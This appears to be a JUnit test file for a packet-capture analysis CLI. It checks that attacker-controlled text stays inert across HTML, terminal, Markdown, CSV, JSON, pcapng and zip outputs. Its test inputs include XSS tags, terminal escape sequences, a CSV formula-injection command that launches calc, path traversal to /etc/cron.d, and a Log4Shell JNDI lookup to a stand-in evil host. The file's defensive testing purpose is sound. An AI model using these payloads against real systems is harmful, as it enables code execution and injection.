package org.droppoint.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Words of strangers, planted wherever a capture or a log can hold any, are inert in every output: in a browser, in a
 * terminal, in a ticket, in a spreadsheet, in Wireshark, in an unpacked archive.
 */
class HostileTextTest {
    @TempDir
    Path folder = Path.of(".");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"'><img src=x onerror=alert(1)>",
                "</script><script>alert(2)</script>",
                "\u001b[31mred\u001b[2J\u001b]0;owned\u0007",
                "\u009b31m\u009d0;x\u009c",
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\u202Egnp.exe\u202C \u2066a\u2067b\u2068c\u2069 \u200Fd",
                "![x](http://evil.invalid/p.png) [y](javascript:alert(1)) @octocat | a | b",
                "```\n# alive `code` ``two`` <b>\n",
                "../../../etc/cron.d/owned",
                "%s%n${jndi:ldap://evil.invalid/x}\r\nX-Forged: 1",
                "\u0000nul\u2028line\u2029para\uFEFF",
            })
    void plantedWordsAreInertInEveryOutput(String words) throws IOException, GeneralSecurityException {
        Path inputs = Files.createDirectories(folder.resolve("in"));
        Path outputs = Files.createDirectories(folder.resolve("out"));
        List<String> given = new Planted(words, inputs).write();
        List<String> arguments = new ArrayList<>(List.of("analyze", "--exit-zero"));
        List<String> ends = List.of("html", "pdf", "md", "txt", "json", "csv", "lost.csv", "pcapng");
        for (String end : ends) {
            arguments.addAll(List.of("-o", outputs.resolve("case." + end).toString()));
        }
        arguments.addAll(given);
        Terminals.Result told = Terminals.run(arguments);
        assertEquals(0, told.status(), told.err());
        Inert.quiet("standard output", told.out());
        Inert.quiet("standard error", told.err());
        for (String end : ends) {
            Inert.check("case." + end, Files.readAllBytes(outputs.resolve("case." + end)));
        }
        assertTrue(told.out().contains("not the same session"), told.out());
        for (String level : List.of("none", "all")) {
            List<String> bundle = new ArrayList<>(List.of("case", "--exit-zero", "--redact", level));
            Path zip = outputs.resolve(level + ".zip");
            bundle.addAll(List.of("-o", zip.toString()));
            bundle.addAll(given);
            Terminals.Result packed = Terminals.run(bundle);
            assertEquals(0, packed.status(), packed.err());
            Inert.quiet("standard error", packed.err());
            Inert.check("case.zip", Files.readAllBytes(zip));
            Path mapping = outputs.resolve(level + ".mapping.json");
            if (Files.exists(mapping)) {
                Inert.check("mapping.json", Files.readAllBytes(mapping));
            }
        }
        Terminals.Result inspected = Terminals.run("inspect", given.get(1));
        Inert.quiet("inspect", inspected.out() + inspected.err());
    }

    /** The plants do reach the outputs: else there would be nothing to be inert. */
    @Test
    void thePlantsAreSeen() throws IOException, GeneralSecurityException {
        List<String> arguments = new ArrayList<>(List.of("analyze", "--exit-zero", "--format", "json"));
        arguments.addAll(new Planted("pl4nt", folder).write());
        String json = Terminals.run(arguments).out();
        for (String place : List.of(
                "host pl4nt.pcapng", // a file's name
                "220 host pl4nt", // a greeting
                "CN=host pl4nt issued by CN=host pl4nt", // a certificate
                "SEND pl4nt.LOG")) {
            assertTrue(json.contains(place), place);
        }
    }

    @Test
    void theChecksBite() {
        for (String[] alive : new String[][] {
            {"a.html", "<p><script>alert(1)</script><script></script><script></script>"},
            {"a.html", "<script></script><script></script><b onclick=x()>"},
            {"a.txt", "\u001b[31m"},
            {"a.txt", "\u202e"},
            {"a.md", "see @octocat"},
            {"a.md", "![x](http://x.invalid)"},
            {"a.csv", "a,=1+1\n"},
            {"a.json", "{\"a\":\"\u0085\"}"},
        }) {
            org.junit.jupiter.api.Assertions.assertThrows(
                    AssertionError.class,
                    () -> Inert.check(alive[0], alive[1].getBytes(StandardCharsets.UTF_8)),
                    alive[1]);
        }
    }
}
